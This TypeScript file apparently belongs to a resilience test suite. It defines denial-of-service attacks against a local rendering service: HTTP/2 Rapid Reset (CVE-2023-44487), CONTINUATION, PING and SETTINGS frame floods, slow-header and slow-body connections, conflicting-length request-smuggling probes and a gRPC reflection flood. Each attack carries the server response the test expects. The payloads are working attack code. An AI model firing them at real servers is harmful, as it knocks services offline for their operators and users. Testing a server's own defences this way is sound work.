// Connections that are slow, endless or ill-mannered, over HTTP/1.1 and HTTP/2, in frames of their own.
import type { Attack } from "../attack.ts";
import { flood, later, type RawAnswer, rawConnection, send, sendHttp2, withHttp2 } from "../send.ts";
import type { Target } from "../target.ts";
import { jsonHeaders } from "./bodies.ts";

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "latin1");

const TYPES = { data: 0, headers: 1, priority: 2, reset: 3, settings: 4, ping: 6, windowUpdate: 8, continuation: 9 };

/** A frame of HTTP/2 (RFC 9113, section 4.1). */
function frame(type: keyof typeof TYPES, flags: number, stream: number, content: Uint8Array = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(content.length, 0, 3);
  head.set([TYPES[type], flags], 3);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, content]);
}

const OPENING = Buffer.concat([PREFACE, frame("settings", 0, 0)]);

/** A header of HPACK, written out, never indexed. */
function header(name: string, value: string): Buffer {
  const text = (content: string) => Buffer.concat([Buffer.from([content.length]), Buffer.from(content, "latin1")]);
  return Buffer.concat([Buffer.from([0x10]), text(name), text(value)]);
}

const HEALTH = Buffer.concat([
  ...[header(":method", "GET"), header(":scheme", "http"), header(":path", "/v1/health")],
  header(":authority", "127.0.0.1"),
]);

/** Opens streams and takes each back at once (CVE-2023-44487). */
function rapidReset(target: Target): Promise<RawAnswer> {
  const chunks = Array.from({ length: 20 }, (_, at) => {
    const streams = Array.from({ length: 1_000 }, (_, stream) => 1 + 2 * (at * 1_000 + stream));
    return Buffer.concat(streams.flatMap((id) => [frame("headers", 0x05, id, HEALTH), resetOf(id)]));
  });
  return chunksTo(target, OPENING, chunks);
}

function resetOf(stream: number): Buffer {
  return frame("reset", 0, stream, Buffer.from([0, 0, 0, 8]));
}

/** Sends chunks until the server ends the connection. */
async function chunksTo({ baseUrl }: Target, opening: Uint8Array, chunks: readonly Uint8Array[]): Promise<RawAnswer> {
  const { socket, closed } = await rawConnection(baseUrl);
  socket.write(opening);
  let isClosed = false;
  void closed.then(() => {
    isClosed = true;
  });
  for (const chunk of chunks) {
    if (isClosed) break;
    if (!socket.write(chunk)) await Promise.race([new Promise((drained) => socket.once("drain", drained)), closed]);
  }
  await Promise.race([closed, later(500)]);
  socket.destroy();
  return { said: isClosed ? "200 ended by the server" : "200 read to its end" };
}

const ENDED = /^200 ended by the server$/;

function floodAttack(name: string, chunk: () => Buffer, times: number, before: Uint8Array = new Uint8Array(0)): Attack {
  return {
    name: `HTTP/2: ${name}`,
    run: async ({ baseUrl }) => [await flood(baseUrl, Buffer.concat([OPENING, before]), chunk(), times)],
    // A window may be widened until it is full, and only that ends the connection.
    ...(name.endsWith("WINDOW_UPDATE") ? {} : { answers: ENDED }),
  };
}

const many = (part: Buffer, count: number): Buffer => Buffer.concat(Array<Buffer>(count).fill(part));

/** Bodies of which half comes, on many streams; the session ends when the attack has seen what the server keeps. */
function halfBodies(path: string, contentType: string, withKey: boolean): Attack {
  return {
    name: `HTTP/2: 90 halves of bodies to ${path.split("/").slice(0, 3).join("/")}`,
    async run(target) {
      const { renderKey, canvasId } = await target.attacker("business");
      return withHttp2(target.baseUrl, async (open) => {
        const streams = Array.from({ length: 90 }, () => {
          const stream = open({
            ...{ ":method": "POST", ":path": path.replace("{canvas}", canvasId), "content-type": contentType },
            ...(withKey ? { "x-api-key": renderKey } : {}),
          });
          stream.write('{"data":{"a":"'.padEnd(500_000, "x"));
          return stream;
        });
        await later(1_000);
        for (const stream of streams) stream.destroy();
        return [{ said: "200 held" }];
      });
    },
  };
}

const SLOW: readonly Attack[] = [
  {
    name: "HTTP/1.1: 200 connections whose headers come by letters",
    async run({ baseUrl }) {
      const connections = await Promise.all(Array.from({ length: 200 }, () => rawConnection(baseUrl)));
      for (const { socket } of connections) socket.write("GET /v1/health HTTP/1.1\r\nHost: 127.0.0.1\r\nX-");
      for (let letter = 0; letter < 10; letter += 1) {
        await later(100);
        for (const { socket } of connections) socket.write("a");
      }
      for (const { socket } of connections) socket.destroy();
      return [{ said: "200 held" }];
    },
  },
  {
    name: "HTTP/1.1: 200 bodies that come by letters",
    async run(target) {
      const { renderKey, canvasId } = await target.attacker("business");
      const connections = await Promise.all(Array.from({ length: 200 }, () => rawConnection(target.baseUrl)));
      const head = `POST /v1/canvases/${canvasId}/pdf HTTP/1.1\r\nHost: 127.0.0.1\r\nx-api-key: ${renderKey}\r\n`;
      const rest = "content-type: application/json\r\ncontent-length: 4000000\r\n\r\n{";
      for (const { socket } of connections) socket.write(`${head}${rest}`);
      for (let letter = 0; letter < 10; letter += 1) {
        await later(100);
        for (const { socket } of connections) socket.write(" ");
      }
      for (const { socket } of connections) socket.destroy();
      return [{ said: "200 held" }];
    },
  },
  {
    name: "HTTP/1.1: 2,000 requests in one write",
    async run({ baseUrl }) {
      const { socket, received, closed } = await rawConnection(baseUrl);
      socket.write("GET /v1/health HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".repeat(2_000));
      await Promise.race([closed, later(2_000)]);
      socket.destroy();
      const answered = received().toString("latin1").split("HTTP/1.1 200").length - 1;
      return [{ said: `${answered > 100 ? 500 : 200} ${answered} answered` }];
    },
    answers: /^200 /,
  },
  {
    name: "HTTP/1.1: a header of 60 KB and one of 2,000 lines",
    async run({ baseUrl }) {
      const headers = Object.fromEntries(Array.from({ length: 1_500 }, (_, at) => [`x-${at}`, "a"]));
      const long = await send(baseUrl, { method: "GET", path: "/v1/health", headers: { "x-a": "a".repeat(60_000) } });
      return [long, await send(baseUrl, { method: "GET", path: "/v1/health", headers })];
    },
    answers: /^(?:200|413|431)|^0 ECONNRESET/,
  },
  {
    name: "HTTP/1.1: lengths that contradict one another",
    async run({ baseUrl }) {
      const heads = [
        "POST /v1/usage HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "GET /v1/health HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab",
        "POST /v1/health HTTP/1.1\r\nHost: x\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
        "GET /v1/health HTTP/1.1\nHost: x\n\n",
      ];
      return Promise.all(
        heads.map(async (head) => {
          const { socket, received, closed } = await rawConnection(baseUrl);
          socket.write(head);
          await Promise.race([closed, later(1_000)]);
          socket.destroy();
          return { said: /^HTTP\/1.1 (\d+)/.exec(received().toString("latin1"))?.[1] ?? "400 closed" };
        }),
      );
    },
    answers: /^4\d\d/,
  },
  {
    name: "HTTP/2: 40 KB of metadata in each of 50 calls",
    async run(target) {
      const attacker = await target.attacker("starter");
      const headers = {
        ...jsonHeaders(attacker),
        ":path": "/platen.v1.RenderService/ListRenders",
        "content-type": "application/grpc+proto",
        "x-much": "a".repeat(40_000),
      };
      return Promise.all(Array.from({ length: 50 }, () => sendHttp2(target.baseUrl, headers, Buffer.alloc(5))));
    },
    answers: /^(?:0 closed|413|431)/,
  },
];

/** A question to gRPC's reflection by a symbol, as a message with its length. */
function reflectionQuestion(symbol: string): Buffer {
  const message = Buffer.concat([Buffer.from([0x22, symbol.length]), Buffer.from(symbol)]);
  const head = Buffer.alloc(5);
  head.writeUInt32BE(message.length, 1);
  return Buffer.concat([head, message]);
}

const REFLECTION: Attack = {
  name: "gRPC: 5,000 questions to reflection on one stream",
  async run({ baseUrl }) {
    const path = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
    const headers = { ":path": path, "content-type": "application/grpc+proto", te: "trailers" };
    const body = many(reflectionQuestion("platen.v1.RenderService"), 5_000);
    return [await sendHttp2(baseUrl, headers, body)];
  },
  // The hundred answers that one stream gets, each with all definitions.
  mainMibMax: 32,
  // Code 8: so many questions one stream does not take.
  answers: /^200 grpc 8$/,
};

const OPEN_HEADERS = frame("headers", 0x00, 1, HEALTH);

export const CONNECTION_ATTACKS: readonly Attack[] = [
  {
    name: "HTTP/2: 20,000 streams, each reset at once",
    run: async (target) => [await rapidReset(target)],
    answers: ENDED,
  },
  floodAttack(
    "a gibibyte of CONTINUATION",
    () => many(frame("continuation", 0, 1, many(header("x", "y"), 1_000)), 16),
    500,
    OPEN_HEADERS,
  ),
  floodAttack("400,000 empty CONTINUATION", () => many(frame("continuation", 0, 1), 4_000), 100, OPEN_HEADERS),
  floodAttack("400,000 SETTINGS", () => many(frame("settings", 0, 0), 4_000), 100),
  floodAttack("400,000 PING", () => many(frame("ping", 0, 0, Buffer.alloc(8)), 4_000), 100),
  floodAttack("400,000 PRIORITY", () => many(frame("priority", 0, 1, Buffer.alloc(5)), 4_000), 100),
  floodAttack("400,000 empty DATA", () => many(frame("data", 0, 1), 4_000), 100, frame("headers", 0x04, 1, HEALTH)),
  floodAttack("400,000 WINDOW_UPDATE", () => many(frame("windowUpdate", 0, 0, Buffer.from([0, 0, 0, 1])), 4_000), 100),
  halfBodies("/v1/canvases/{canvas}/pdf", "application/json", true),
  halfBodies("/oauth/token", "application/x-www-form-urlencoded", false),
  ...SLOW,
  REFLECTION,
];
